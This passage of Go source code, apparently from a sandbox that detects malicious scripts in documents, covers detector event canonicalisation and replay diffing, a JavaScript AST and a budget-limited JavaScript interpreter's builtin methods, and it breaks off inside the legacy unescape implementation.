func (e Event) Canon() string {
	var b strings.Builder
	switch e.T {
	case TypeCtx:
		if e.Ctx == nil {
			return ""
		}
		fmt.Fprintf(&b, "ctx|%s|%s|%s|%d|%d", e.Ctx.Event, e.DocID, e.Key, e.PID, e.Ctx.Seq)
	case TypeFakeMessage:
		if e.Ctx == nil {
			return ""
		}
		fmt.Fprintf(&b, "fake|%s|%s|%d|%s", e.Ctx.WireKey, e.DocID, e.PID, e.Cause)
	case TypeHook:
		if e.Hook == nil {
			return ""
		}
		fmt.Fprintf(&b, "hook|%d|%s|%s|%s|%s|%s",
			e.PID, e.Hook.API, strings.Join(e.Hook.Args, ","),
			strconv.FormatFloat(e.Hook.MemMB, 'g', -1, 64),
			e.Hook.Behavior, e.Hook.Action)
	case TypeFeature:
		if e.Feature == nil {
			return ""
		}
		fmt.Fprintf(&b, "feature|%s|%s|%s|%s", e.DocID, e.Key, e.Feature.Name, e.Feature.Op)
	case TypeAlert:
		if e.Alert == nil {
			return ""
		}
		fmt.Fprintf(&b, "alert|%s|%s|%d|%s|%s|%s",
			e.DocID, e.Key, e.Alert.Malscore, e.Alert.Reason, e.Alert.Cause,
			strings.Join(e.Alert.Features, ","))
	case TypeForget:
		fmt.Fprintf(&b, "forget|%s", e.Key)
	default:
		return ""
	}
	return b.String()
}

// CanonStream filters a journal down to the ordered canonical forms of
// its deterministic detector events.
func CanonStream(events []Event) []string {
	var out []string
	for _, e := range events {
		if c := e.Canon(); c != "" {
			out = append(out, c)
		}
	}
	return out
}

// Diff compares a recorded journal against its replay's journal and
// returns human-readable mismatch descriptions (nil when the replay is
// byte-identical on the canonical stream). This is the golden "replay ==
// live" check: feature vectors, malscores and alert ordering all live in
// the canonical forms.
func Diff(recorded, replayed []Event) []string {
	rec := CanonStream(recorded)
	rep := CanonStream(replayed)
	var diffs []string
	n := len(rec)
	if len(rep) < n {
		n = len(rep)
	}
	for i := 0; i < n; i++ {
		if rec[i] != rep[i] {
			diffs = append(diffs, fmt.Sprintf("event %d: recorded %q != replayed %q", i, rec[i], rep[i]))
			if len(diffs) >= 20 {
				diffs = append(diffs, "... (truncated)")
				return diffs
			}
		}
	}
	if len(rec) != len(rep) {
		diffs = append(diffs, fmt.Sprintf("event count: recorded %d != replayed %d", len(rec), len(rep)))
	}
	return diffs
}
