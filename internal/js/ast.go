package js

// Node is implemented by all AST nodes.
type Node interface{ nodePos() int }

type base struct{ Pos int }

func (b base) nodePos() int { return b.Pos }

// ---- Statements ----

// Program is the root node.
type Program struct {
	base
	Body []Stmt
}

// Stmt is implemented by statement nodes.
type Stmt interface{ Node }

// VarStmt declares one or more variables.
type VarStmt struct {
	base
	Decls []VarDecl
}

// VarDecl is one declarator inside a var statement.
type VarDecl struct {
	Name string
	Init Expr // nil when absent
}

// FuncDecl declares a named function.
type FuncDecl struct {
	base
	Name string
	Fn   *FuncLit
}

// ExprStmt wraps an expression used as a statement.
type ExprStmt struct {
	base
	X Expr
}

// IfStmt is if/else.
type IfStmt struct {
	base
	Cond Expr
	Then Stmt
	Else Stmt // nil when absent
}

// WhileStmt is a while loop.
type WhileStmt struct {
	base
	Cond Expr
	Body Stmt
}

// DoWhileStmt is a do/while loop.
type DoWhileStmt struct {
	base
	Body Stmt
	Cond Expr
}

// ForStmt is the classic three-clause for loop.
type ForStmt struct {
	base
	Init Stmt // VarStmt or ExprStmt or nil
	Cond Expr // nil = always true
	Post Expr // nil when absent
	Body Stmt
}

// ForInStmt is for (k in obj).
type ForInStmt struct {
	base
	VarName string
	Declare bool // "for (var k in ...)"
	Object  Expr
	Body    Stmt
}

// ReturnStmt returns from a function.
type ReturnStmt struct {
	base
	X Expr // nil for bare return
}

// BreakStmt breaks the innermost loop or switch.
type BreakStmt struct{ base }

// ContinueStmt continues the innermost loop.
type ContinueStmt struct{ base }

// BlockStmt is { ... }.
type BlockStmt struct {
	base
	Body []Stmt
}

// EmptyStmt is a bare semicolon.
type EmptyStmt struct{ base }

// ThrowStmt throws a value.
type ThrowStmt struct {
	base
	X Expr
}

// TryStmt is try/catch/finally.
type TryStmt struct {
	base
	Body      *BlockStmt
	CatchName string
	Catch     *BlockStmt // nil when absent
	Finally   *BlockStmt // nil when absent
}

// SwitchStmt is a switch with strict-equality case matching.
type SwitchStmt struct {
	base
	Disc  Expr
	Cases []SwitchCase
}

// SwitchCase is one case (Test nil for default).
type SwitchCase struct {
	Test Expr
	Body []Stmt
}

// ---- Expressions ----

// Expr is implemented by expression nodes.
type Expr interface{ Node }

// NumberLit is a numeric literal.
type NumberLit struct {
	base
	Value float64
}

// StringLit is a string literal.
type StringLit struct {
	base
	Value string
}

// BoolLit is true/false.
type BoolLit struct {
	base
	Value bool
}

// NullLit is null.
type NullLit struct{ base }

// Ident is an identifier reference.
type Ident struct {
	base
	Name string
}

// ThisLit is the this expression.
type ThisLit struct{ base }

// ArrayLit is [a, b, ...].
type ArrayLit struct {
	base
	Elems []Expr
}

// ObjectLit is {k: v, ...}.
type ObjectLit struct {
	base
	Keys   []string
	Values []Expr
}

// FuncLit is a function expression (also the body of declarations).
type FuncLit struct {
	base
	Name   string // optional
	Params []string
	Body   []Stmt
	// Source is the exact source text of the function, used by toString.
	Source string
}

// UnaryExpr is a prefix operator.
type UnaryExpr struct {
	base
	Op string // ! ~ - + typeof void delete
	X  Expr
}

// UpdateExpr is ++/-- in prefix or postfix position.
type UpdateExpr struct {
	base
	Op     string // "++" or "--"
	X      Expr
	Prefix bool
}

// BinaryExpr is a binary operator.
type BinaryExpr struct {
	base
	Op   string
	L, R Expr
}

// LogicalExpr is && or || with short-circuit evaluation.
type LogicalExpr struct {
	base
	Op   string
	L, R Expr
}

// CondExpr is the ?: ternary.
type CondExpr struct {
	base
	Cond, Then, Else Expr
}

// AssignExpr is = and the compound assignment operators.
type AssignExpr struct {
	base
	Op     string // "=", "+=", ...
	Target Expr   // Ident or MemberExpr
	Value  Expr
}

// CallExpr is a function call.
type CallExpr struct {
	base
	Callee Expr
	Args   []Expr
}

// NewExpr is new Callee(args).
type NewExpr struct {
	base
	Callee Expr
	Args   []Expr
}

// MemberExpr is a property access, either dotted or computed.
type MemberExpr struct {
	base
	Object   Expr
	Property Expr // StringLit for dotted access
	Computed bool
}

// SeqExpr is the comma operator.
type SeqExpr struct {
	base
	Exprs []Expr
}
