package js

import (
	"math"
	"sort"
	"strings"
	"unicode/utf16"
	"unicode/utf8"
)

func arg(args []Value, i int) Value {
	if i < len(args) {
		return args[i]
	}
	return Undefined()
}

// ---- UTF-16 helpers ----

func isASCII(v Value) bool { return len(v.str) == v.strLen }

// stringUnits returns s as UTF-16 code units (non-ASCII slow path).
func stringUnits(s string) []uint16 { return utf16.Encode([]rune(s)) }

func unitsToString(u []uint16) string { return string(utf16.Decode(u)) }

func (it *Interp) stringCharAt(v Value, idx int) (Value, error) {
	if idx < 0 || idx >= v.strLen {
		return StringValue(""), nil
	}
	if isASCII(v) {
		return it.newString(v.str[idx : idx+1])
	}
	// Re-encoding the whole string is O(len); bill it, or per-character
	// loops over non-ASCII strings turn quadratic for free.
	if err := it.work(len(v.str)); err != nil {
		return Undefined(), err
	}
	u := it.units16(v.str)
	return it.newString(unitsToString(u[idx : idx+1]))
}

func (it *Interp) stringCharCodeAt(v Value, idx int) float64 {
	if idx < 0 || idx >= v.strLen {
		return math.NaN()
	}
	if isASCII(v) {
		return float64(v.str[idx])
	}
	u := it.units16(v.str)
	return float64(u[idx])
}

func clampIndex(i, n int) int {
	if i < 0 {
		return 0
	}
	if i > n {
		return n
	}
	return i
}

func (it *Interp) stringSlice(v Value, start, end int) (Value, error) {
	start = clampIndex(start, v.strLen)
	end = clampIndex(end, v.strLen)
	if start > end {
		start, end = end, start
	}
	if isASCII(v) {
		return it.newString(v.str[start:end])
	}
	if err := it.work(len(v.str)); err != nil {
		return Undefined(), err
	}
	u := it.units16(v.str)
	return it.newString(unitsToString(u[start:end]))
}

func toIntArg(v Value, def int) int {
	if v.IsUndefined() {
		return def
	}
	f := v.ToNumber()
	if math.IsNaN(f) {
		return 0
	}
	if math.IsInf(f, 1) {
		return math.MaxInt32
	}
	if math.IsInf(f, -1) {
		return math.MinInt32
	}
	return int(math.Trunc(f))
}

func thisString(it *Interp, this Value) (string, error) {
	return valueToString(it, this)
}

// thisStringValue returns this as a string Value. When this already is one
// the value is returned as-is, keeping its cached UTF-16 length — the hot
// per-character methods (charAt/charCodeAt/substr) would otherwise rescan
// the whole string on every call.
func thisStringValue(it *Interp, this Value) (Value, error) {
	if this.IsString() {
		return this, nil
	}
	s, err := valueToString(it, this)
	if err != nil {
		return Undefined(), err
	}
	return StringValue(s), nil
}

// ---- String methods ----

var stringMethods map[string]HostFn

var primitiveMethods map[string]HostFn

var arrayMethods map[string]HostFn

var objectMethods map[string]HostFn

var functionMethods map[string]HostFn

// must be populated after all HostFns are defined.
//
//nolint:gochecknoinits // builtin tables are cyclic with the interpreter and
func init() {
	stringMethods = map[string]HostFn{
		"charAt": func(it *Interp, this Value, args []Value) (Value, error) {
			sv, err := thisStringValue(it, this)
			if err != nil {
				return Undefined(), err
			}
			return it.stringCharAt(sv, toIntArg(arg(args, 0), 0))
		},
		"charCodeAt": func(it *Interp, this Value, args []Value) (Value, error) {
			sv, err := thisStringValue(it, this)
			if err != nil {
				return Undefined(), err
			}
			if !isASCII(sv) {
				// Billing the UTF-16 re-encode keeps shellcode-style
				// charCodeAt loops within the step budget's time bound.
				if err := it.work(len(sv.str)); err != nil {
					return Undefined(), err
				}
			}
			return NumberValue(it.stringCharCodeAt(sv, toIntArg(arg(args, 0), 0))), nil
		},
		"indexOf": func(it *Interp, this Value, args []Value) (Value, error) {
			sv, err := thisStringValue(it, this)
			if err != nil {
				return Undefined(), err
			}
			needle, err := valueToString(it, arg(args, 0))
			if err != nil {
				return Undefined(), err
			}
			s := sv.str
			if err := it.work(len(s) + len(needle)); err != nil {
				return Undefined(), err
			}
			if isASCII(sv) && utf16Len(needle) == len(needle) {
				from := clampIndex(toIntArg(arg(args, 1), 0), len(s))
				idx := strings.Index(s[from:], needle)
				if idx < 0 {
					return NumberValue(-1), nil
				}
				return NumberValue(float64(from + idx)), nil
			}
			u := it.units16(s)
			n := stringUnits(needle)
			from := clampIndex(toIntArg(arg(args, 1), 0), len(u))
			for i := from; i+len(n) <= len(u); i++ {
				match := true
				for j := range n {
					if u[i+j] != n[j] {
						match = false
						break
					}
				}
				if match {
					return NumberValue(float64(i)), nil
				}
			}
			return NumberValue(-1), nil
		},
		"lastIndexOf": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := thisString(it, this)
			if err != nil {
				return Undefined(), err
			}
			needle, err := valueToString(it, arg(args, 0))
			if err != nil {
				return Undefined(), err
			}
			if err := it.work(len(s) + len(needle)); err != nil {
				return Undefined(), err
			}
			// ASCII-sufficient implementation (code-unit exact for ASCII).
			idx := strings.LastIndex(s, needle)
			if idx < 0 {
				return NumberValue(-1), nil
			}
			return NumberValue(float64(utf16Len(s[:idx]))), nil
		},
		"substring": func(it *Interp, this Value, args []Value) (Value, error) {
			sv, err := thisStringValue(it, this)
			if err != nil {
				return Undefined(), err
			}
			start := toIntArg(arg(args, 0), 0)
			end := toIntArg(arg(args, 1), sv.strLen)
			return it.stringSlice(sv, start, end)
		},
		"substr": func(it *Interp, this Value, args []Value) (Value, error) {
			sv, err := thisStringValue(it, this)
			if err != nil {
				return Undefined(), err
			}
			start := toIntArg(arg(args, 0), 0)
			if start < 0 {
				start = sv.strLen + start
				if start < 0 {
					start = 0
				}
			}
			length := toIntArg(arg(args, 1), sv.strLen-start)
			if length < 0 {
				length = 0
			}
			return it.stringSlice(sv, start, start+length)
		},
		"slice": func(it *Interp, this Value, args []Value) (Value, error) {
			sv, err := thisStringValue(it, this)
			if err != nil {
				return Undefined(), err
			}
			start := toIntArg(arg(args, 0), 0)
			end := toIntArg(arg(args, 1), sv.strLen)
			if start < 0 {
				start += sv.strLen
			}
			if end < 0 {
				end += sv.strLen
			}
			if start > end {
				return it.newString("")
			}
			return it.stringSlice(sv, start, end)
		},
		"split": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := thisString(it, this)
			if err != nil {
				return Undefined(), err
			}
			sepV := arg(args, 0)
			if sepV.IsUndefined() {
				return ObjectValue(NewArray(StringValue(s))), nil
			}
			sep, err := valueToString(it, sepV)
			if err != nil {
				return Undefined(), err
			}
			if err := it.work(len(s)); err != nil {
				return Undefined(), err
			}
			var parts []string
			if sep == "" {
				for _, r := range s {
					parts = append(parts, string(r))
				}
			} else {
				parts = strings.Split(s, sep)
			}
			arr := NewArray()
			for i, p := range parts {
				pv, err := it.newString(p)
				if err != nil {
					return Undefined(), err
				}
				arr.setIndex(i, pv)
			}
			return ObjectValue(arr), nil
		},
		"replace": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := thisString(it, this)
			if err != nil {
				return Undefined(), err
			}
			pat, err := valueToString(it, arg(args, 0))
			if err != nil {
				return Undefined(), err
			}
			rep, err := valueToString(it, arg(args, 1))
			if err != nil {
				return Undefined(), err
			}
			if err := it.work(len(s) + len(pat)); err != nil {
				return Undefined(), err
			}
			// String-pattern semantics: first occurrence only.
			return it.newString(strings.Replace(s, pat, rep, 1))
		},
		"concat": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := thisString(it, this)
			if err != nil {
				return Undefined(), err
			}
			var b strings.Builder
			b.WriteString(s)
			for _, a := range args {
				as, err := valueToString(it, a)
				if err != nil {
					return Undefined(), err
				}
				b.WriteString(as)
			}
			return it.newString(b.String())
		},
		"toUpperCase": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := thisString(it, this)
			if err != nil {
				return Undefined(), err
			}
			return it.newString(strings.ToUpper(s))
		},
		"toLowerCase": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := thisString(it, this)
			if err != nil {
				return Undefined(), err
			}
			return it.newString(strings.ToLower(s))
		},
		"toString": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := thisString(it, this)
			if err != nil {
				return Undefined(), err
			}
			return StringValue(s), nil
		},
		"valueOf": func(it *Interp, this Value, args []Value) (Value, error) {
			return this, nil
		},
	}

	primitiveMethods = map[string]HostFn{
		"toString": func(it *Interp, this Value, args []Value) (Value, error) {
			if this.IsNumber() && !arg(args, 0).IsUndefined() {
				radix := toIntArg(arg(args, 0), 10)
				if radix >= 2 && radix <= 36 {
					return it.newString(formatRadix(this.Num(), radix))
				}
			}
			s, err := valueToString(it, this)
			if err != nil {
				return Undefined(), err
			}
			return StringValue(s), nil
		},
		"valueOf": func(it *Interp, this Value, args []Value) (Value, error) {
			return this, nil
		},
		"toFixed": func(it *Interp, this Value, args []Value) (Value, error) {
			digits := toIntArg(arg(args, 0), 0)
			if digits < 0 || digits > 20 {
				digits = 0
			}
			f := this.ToNumber()
			pow := math.Pow(10, float64(digits))
			rounded := math.Floor(f*pow+0.5) / pow
			s := numberToString(rounded)
			if digits > 0 {
				dot := strings.IndexByte(s, '.')
				if dot < 0 {
					s += "." + strings.Repeat("0", digits)
				} else if have := len(s) - dot - 1; have < digits {
					s += strings.Repeat("0", digits-have)
				}
			}
			return it.newString(s)
		},
	}

	arrayMethods = map[string]HostFn{
		"push": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil {
				return Undefined(), it.throwTypeError("push on non-array")
			}
			for _, a := range args {
				o.setIndex(o.arrayLen(), a)
				if err := it.alloc(16); err != nil {
					return Undefined(), err
				}
			}
			return NumberValue(float64(o.arrayLen())), nil
		},
		"pop": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil || o.arrayLen() == 0 {
				return Undefined(), nil
			}
			last := o.arrayLen() - 1
			v := o.getIndex(last)
			o.truncate(last)
			return v, nil
		},
		"shift": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil || o.arrayLen() == 0 {
				return Undefined(), nil
			}
			v := o.getIndex(0)
			n := o.arrayLen()
			for i := 1; i < n; i++ {
				o.setIndex(i-1, o.getIndex(i))
			}
			o.truncate(n - 1)
			return v, nil
		},
		"unshift": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil {
				return Undefined(), it.throwTypeError("unshift on non-array")
			}
			n := o.arrayLen()
			k := len(args)
			for i := n - 1; i >= 0; i-- {
				o.setIndex(i+k, o.getIndex(i))
			}
			for i, a := range args {
				o.setIndex(i, a)
				if err := it.alloc(16); err != nil {
					return Undefined(), err
				}
			}
			return NumberValue(float64(o.arrayLen())), nil
		},
		"join": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil {
				return Undefined(), it.throwTypeError("join on non-array")
			}
			sep := ","
			if !arg(args, 0).IsUndefined() {
				var err error
				sep, err = valueToString(it, args[0])
				if err != nil {
					return Undefined(), err
				}
			}
			var b strings.Builder
			for i := 0; i < o.arrayLen(); i++ {
				if i > 0 {
					b.WriteString(sep)
				}
				el := o.getIndex(i)
				if el.IsUndefined() || el.IsNull() {
					continue
				}
				s, err := valueToString(it, el)
				if err != nil {
					return Undefined(), err
				}
				b.WriteString(s)
			}
			return it.newString(b.String())
		},
		"concat": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			out := NewArray()
			n := 0
			appendVal := func(v Value) error {
				if vo := v.Object(); vo != nil && vo.Class == ClassArray {
					for i := 0; i < vo.arrayLen(); i++ {
						out.setIndex(n, vo.getIndex(i))
						n++
						if err := it.alloc(16); err != nil {
							return err
						}
					}
					return nil
				}
				out.setIndex(n, v)
				n++
				return it.alloc(16)
			}
			if err := appendVal(ObjectValue(o)); err != nil {
				return Undefined(), err
			}
			for _, a := range args {
				if err := appendVal(a); err != nil {
					return Undefined(), err
				}
			}
			return ObjectValue(out), nil
		},
		"slice": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil {
				return Undefined(), it.throwTypeError("slice on non-array")
			}
			n := o.arrayLen()
			start := toIntArg(arg(args, 0), 0)
			end := toIntArg(arg(args, 1), n)
			if start < 0 {
				start += n
			}
			if end < 0 {
				end += n
			}
			start = clampIndex(start, n)
			end = clampIndex(end, n)
			out := NewArray()
			for i := start; i < end; i++ {
				out.setIndex(i-start, o.getIndex(i))
			}
			return ObjectValue(out), nil
		},
		"indexOf": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil {
				return NumberValue(-1), nil
			}
			target := arg(args, 0)
			for i := 0; i < o.arrayLen(); i++ {
				if strictEquals(o.getIndex(i), target) {
					return NumberValue(float64(i)), nil
				}
			}
			return NumberValue(-1), nil
		},
		"reverse": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil {
				return Undefined(), it.throwTypeError("reverse on non-array")
			}
			n := o.arrayLen()
			for i := 0; i < n/2; i++ {
				a, b := o.getIndex(i), o.getIndex(n-1-i)
				o.setIndex(i, b)
				o.setIndex(n-1-i, a)
			}
			return this, nil
		},
		"sort": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil {
				return Undefined(), it.throwTypeError("sort on non-array")
			}
			n := o.arrayLen()
			vals := make([]Value, n)
			for i := range vals {
				vals[i] = o.getIndex(i)
			}
			var sortErr error
			cmp := arg(args, 0).Object()
			sort.SliceStable(vals, func(i, j int) bool {
				if sortErr != nil {
					return false
				}
				if cmp.IsCallable() {
					r, err := it.callFunction(cmp, Undefined(), []Value{vals[i], vals[j]})
					if err != nil {
						sortErr = err
						return false
					}
					return r.ToNumber() < 0
				}
				a, _ := valueToString(it, vals[i])
				b, _ := valueToString(it, vals[j])
				return a < b
			})
			if sortErr != nil {
				return Undefined(), sortErr
			}
			for i, v := range vals {
				o.setIndex(i, v)
			}
			return this, nil
		},
		"toString": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := valueToString(it, this)
			if err != nil {
				return Undefined(), err
			}
			return it.newString(s)
		},
	}

	objectMethods = map[string]HostFn{
		"hasOwnProperty": func(it *Interp, this Value, args []Value) (Value, error) {
			o := this.Object()
			if o == nil {
				return BoolValue(false), nil
			}
			name, err := valueToString(it, arg(args, 0))
			if err != nil {
				return Undefined(), err
			}
			_, ok := o.GetOwn(name)
			return BoolValue(ok), nil
		},
		"toString": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := valueToString(it, this)
			if err != nil {
				return Undefined(), err
			}
			return StringValue(s), nil
		},
		"valueOf": func(it *Interp, this Value, args []Value) (Value, error) {
			return this, nil
		},
	}

	functionMethods = map[string]HostFn{
		"call": func(it *Interp, this Value, args []Value) (Value, error) {
			fn := this.Object()
			if !fn.IsCallable() {
				return Undefined(), it.throwTypeError("call on non-function")
			}
			var rest []Value
			if len(args) > 1 {
				rest = args[1:]
			}
			return it.callFunction(fn, arg(args, 0), rest)
		},
		"apply": func(it *Interp, this Value, args []Value) (Value, error) {
			fn := this.Object()
			if !fn.IsCallable() {
				return Undefined(), it.throwTypeError("apply on non-function")
			}
			var rest []Value
			if ao := arg(args, 1).Object(); ao != nil && ao.Class == ClassArray {
				for i := 0; i < ao.arrayLen(); i++ {
					rest = append(rest, ao.getIndex(i))
				}
			}
			return it.callFunction(fn, arg(args, 0), rest)
		},
		"toString": func(it *Interp, this Value, args []Value) (Value, error) {
			s, err := valueToString(it, this)
			if err != nil {
				return Undefined(), err
			}
			return StringValue(s), nil
		},
	}
}

func formatRadix(f float64, radix int) string {
	if math.IsNaN(f) {
		return "NaN"
	}
	neg := f < 0
	n := int64(math.Abs(math.Trunc(f)))
	if n == 0 {
		return "0"
	}
	const digits = "0123456789abcdefghijklmnopqrstuvwxyz"
	var buf []byte
	for n > 0 {
		buf = append([]byte{digits[n%int64(radix)]}, buf...)
		n /= int64(radix)
	}
	if neg {
		buf = append([]byte{'-'}, buf...)
	}
	return string(buf)
}

// installBuiltins populates the global scope.
func installBuiltins(it *Interp) {
	g := it.Global
	def := func(name string, fn HostFn) {
		g.Declare(name, ObjectValue(NewHostFunc(name, fn)))
	}

	g.Declare("undefined", Undefined())
	g.Declare("NaN", NumberValue(math.NaN()))
	g.Declare("Infinity", NumberValue(math.Inf(1)))

	def("eval", func(it *Interp, this Value, args []Value) (Value, error) {
		src := arg(args, 0)
		if !src.IsString() {
			return src, nil
		}
		return it.EvalInScope(src.Str(), it.CurrentScope())
	})
	def("parseInt", func(it *Interp, this Value, args []Value) (Value, error) {
		s, err := valueToString(it, arg(args, 0))
		if err != nil {
			return Undefined(), err
		}
		radix := toIntArg(arg(args, 1), 0)
		return NumberValue(parseIntJS(s, radix)), nil
	})
	def("parseFloat", func(it *Interp, this Value, args []Value) (Value, error) {
		s, err := valueToString(it, arg(args, 0))
		if err != nil {
			return Undefined(), err
		}
		return NumberValue(parseFloatJS(s)), nil
	})
	def("isNaN", func(it *Interp, this Value, args []Value) (Value, error) {
		return BoolValue(math.IsNaN(arg(args, 0).ToNumber())), nil
	})
	def("isFinite", func(it *Interp, this Value, args []Value) (Value, error) {
		f := arg(args, 0).ToNumber()
		return BoolValue(!math.IsNaN(f) && !math.IsInf(f, 0)), nil
	})
	def("unescape", func(it *Interp, this Value, args []Value) (Value, error) {
		s, err := valueToString(it, arg(args, 0))
		if err != nil {
			return Undefined(), err
		}
		return it.newString(unescapeJS(s))
	})
	def("escape", func(it *Interp, this Value, args []Value) (Value, error) {
		s, err := valueToString(it, arg(args, 0))
		if err != nil {
			return Undefined(), err
		}
		return it.newString(escapeJS(s))
	})

	// String constructor with fromCharCode.
	strCtor := NewHostFunc("String", func(it *Interp, this Value, args []Value) (Value, error) {
		if len(args) == 0 {
			return StringValue(""), nil
		}
		s, err := valueToString(it, args[0])
		if err != nil {
			return Undefined(), err
		}
		return it.newString(s)
	})
	strCtor.Set("fromCharCode", ObjectValue(NewHostFunc("fromCharCode", func(it *Interp, this Value, args []Value) (Value, error) {
		units := make([]uint16, len(args))
		for i, a := range args {
			units[i] = uint16(toUint32(a.ToNumber()))
		}
		return it.newString(unitsToString(units))
	})))
	g.Declare("String", ObjectValue(strCtor))

	g.Declare("Number", ObjectValue(NewHostFunc("Number", func(it *Interp, this Value, args []Value) (Value, error) {
		return NumberValue(arg(args, 0).ToNumber()), nil
	})))
	g.Declare("Boolean", ObjectValue(NewHostFunc("Boolean", func(it *Interp, this Value, args []Value) (Value, error) {
		return BoolValue(arg(args, 0).ToBoolean()), nil
	})))
	g.Declare("Array", ObjectValue(NewHostFunc("Array", func(it *Interp, this Value, args []Value) (Value, error) {
		if len(args) == 1 && args[0].IsNumber() {
			a := NewArray()
			a.length = int(args[0].ToNumber())
			return ObjectValue(a), nil
		}
		return ObjectValue(NewArray(args...)), nil
	})))
	g.Declare("Object", ObjectValue(NewHostFunc("Object", func(it *Interp, this Value, args []Value) (Value, error) {
		if a := arg(args, 0); a.IsObject() {
			return a, nil
		}
		return ObjectValue(NewObject()), nil
	})))
	// Function constructor: builds a function from source, an eval variant
	// obfuscators use (new Function("a", "return a*2")).
	g.Declare("Function", ObjectValue(NewHostFunc("Function", func(it *Interp, this Value, args []Value) (Value, error) {
		params := make([]string, 0, len(args))
		body := ""
		for i, a := range args {
			s, err := valueToString(it, a)
			if err != nil {
				return Undefined(), err
			}
			if i == len(args)-1 {
				body = s
			} else {
				params = append(params, s)
			}
		}
		src := "(function(" + strings.Join(params, ",") + "){" + body + "})"
		return it.EvalInScope(src, it.Global)
	})))
	g.Declare("Error", ObjectValue(NewHostFunc("Error", func(it *Interp, this Value, args []Value) (Value, error) {
		o := NewObject()
		o.Class = ClassError
		o.Set("name", StringValue("Error"))
		msg, err := valueToString(it, arg(args, 0))
		if err != nil {
			return Undefined(), err
		}
		o.Set("message", StringValue(msg))
		return ObjectValue(o), nil
	})))

	mathObj := NewHostObject("Math")
	mathObj.Set("PI", NumberValue(math.Pi))
	mathObj.Set("E", NumberValue(math.E))
	mathFns := map[string]func(float64) float64{
		"floor": math.Floor, "ceil": math.Ceil, "abs": math.Abs,
		"sqrt": math.Sqrt, "sin": math.Sin, "cos": math.Cos,
		"log": math.Log, "exp": math.Exp,
	}
	for name, fn := range mathFns {
		fn := fn
		mathObj.Set(name, ObjectValue(NewHostFunc(name, func(it *Interp, this Value, args []Value) (Value, error) {
			return NumberValue(fn(arg(args, 0).ToNumber())), nil
		})))
	}
	mathObj.Set("round", ObjectValue(NewHostFunc("round", func(it *Interp, this Value, args []Value) (Value, error) {
		return NumberValue(math.Floor(arg(args, 0).ToNumber() + 0.5)), nil
	})))
	mathObj.Set("pow", ObjectValue(NewHostFunc("pow", func(it *Interp, this Value, args []Value) (Value, error) {
		return NumberValue(math.Pow(arg(args, 0).ToNumber(), arg(args, 1).ToNumber())), nil
	})))
	mathObj.Set("max", ObjectValue(NewHostFunc("max", func(it *Interp, this Value, args []Value) (Value, error) {
		out := math.Inf(-1)
		for _, a := range args {
			out = math.Max(out, a.ToNumber())
		}
		return NumberValue(out), nil
	})))
	mathObj.Set("min", ObjectValue(NewHostFunc("min", func(it *Interp, this Value, args []Value) (Value, error) {
		out := math.Inf(1)
		for _, a := range args {
			out = math.Min(out, a.ToNumber())
		}
		return NumberValue(out), nil
	})))
	// Deterministic PRNG: reproducible runs matter more than entropy here.
	var rngState uint64 = 0x9e3779b97f4a7c15
	mathObj.Set("random", ObjectValue(NewHostFunc("random", func(it *Interp, this Value, args []Value) (Value, error) {
		rngState ^= rngState << 13
		rngState ^= rngState >> 7
		rngState ^= rngState << 17
		return NumberValue(float64(rngState>>11) / float64(1<<53)), nil
	})))
	g.Declare("Math", ObjectValue(mathObj))
}

func parseIntJS(s string, radix int) float64 {
	t := strings.TrimSpace(s)
	neg := false
	if strings.HasPrefix(t, "-") {
		neg = true
		t = t[1:]
	} else if strings.HasPrefix(t, "+") {
		t = t[1:]
	}
	if radix == 0 {
		if strings.HasPrefix(t, "0x") || strings.HasPrefix(t, "0X") {
			radix = 16
			t = t[2:]
		} else {
			radix = 10
		}
	} else if radix == 16 && (strings.HasPrefix(t, "0x") || strings.HasPrefix(t, "0X")) {
		t = t[2:]
	}
	if radix < 2 || radix > 36 {
		return math.NaN()
	}
	var out float64
	digits := 0
	for i := 0; i < len(t); i++ {
		var d int
		c := t[i]
		switch {
		case c >= '0' && c <= '9':
			d = int(c - '0')
		case c >= 'a' && c <= 'z':
			d = int(c-'a') + 10
		case c >= 'A' && c <= 'Z':
			d = int(c-'A') + 10
		default:
			d = 99
		}
		if d >= radix {
			break
		}
		out = out*float64(radix) + float64(d)
		digits++
	}
	if digits == 0 {
		return math.NaN()
	}
	if neg {
		out = -out
	}
	return out
}

func parseFloatJS(s string) float64 {
	t := strings.TrimSpace(s)
	end := 0
	seenDot, seenExp := false, false
	for end < len(t) {
		c := t[end]
		switch {
		case c >= '0' && c <= '9':
		case c == '.' && !seenDot && !seenExp:
			seenDot = true
		case (c == 'e' || c == 'E') && !seenExp && end > 0:
			seenExp = true
		case (c == '+' || c == '-') && (end == 0 || t[end-1] == 'e' || t[end-1] == 'E'):
		default:
			goto done
		}
		end++
	}
done:
	if end == 0 {
		return math.NaN()
	}
	f, err := parseDecimalSigned(t[:end])
	if err != nil {
		return math.NaN()
	}
	return f
}

func parseDecimalSigned(s string) (float64, error) {
	neg := false
	if strings.HasPrefix(s, "-") {
		neg = true
		s = s[1:]
	} else if strings.HasPrefix(s, "+") {
		s = s[1:]
	}
	f, err := parseDecimal(s)
	if neg {
		f = -f
	}
	return f, err
}

// unescapeJS implements the legacy global unescape(): %uXXXX and %XX.
func unescapeJS(s string) string {
	var b strings.Builder
	b.Grow(len(s))
	for i := 0; i < len(s); {
		c := s[i]
		if c == '%' {
			if i+5 < len(s) && (s[i+1] == 'u' || s[i+1] == 'U') {
